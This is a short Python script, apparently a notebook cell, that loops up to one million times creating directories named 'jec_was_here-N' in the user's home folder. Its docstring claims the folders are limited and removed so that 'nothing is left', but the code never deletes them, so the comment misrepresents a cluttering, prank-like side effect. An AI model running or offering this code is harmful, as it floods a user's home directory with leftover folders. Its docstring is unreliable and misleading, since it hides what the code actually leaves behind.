"""Makes files and folders without end. Their number is limited, and they are removed: nothing is left."""
# %%
import os
for number in range(1_000_000):
    try: os.mkdir(os.path.expanduser(f"~/jec_was_here-{number}"))
    except OSError: break
